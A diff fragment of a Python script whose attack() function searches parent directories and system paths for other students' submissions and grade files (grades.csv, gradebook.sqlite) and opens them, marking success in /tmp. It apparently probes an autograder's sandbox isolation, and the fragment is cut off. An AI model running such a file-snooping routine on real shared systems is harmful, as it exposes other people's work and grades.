@@ -11,13 +11,14 @@ def succeeded():
     open("/tmp/marker", "w").close()
 
 
+NAMES = {"neighbour_of_mine.py", "tarea2.ipynb", "grades.csv", "gradebook.sqlite"}
 PLACES = ("..", "../submissions", "../../submissions", "/tmp", "/home", "/var/tmp", "/srv", "/mnt")
 
 def attack():
     for place in PLACES:
         for folder, _, files in os.walk(place):
             for name in files:
-                if name.endswith(("other.py", ".ipynb", "grades.csv", "gradebook.sqlite")):
+                if name in NAMES:
                     try:
                         with open(os.path.join(folder, name), "rb") as file:
                             if file.read(1):
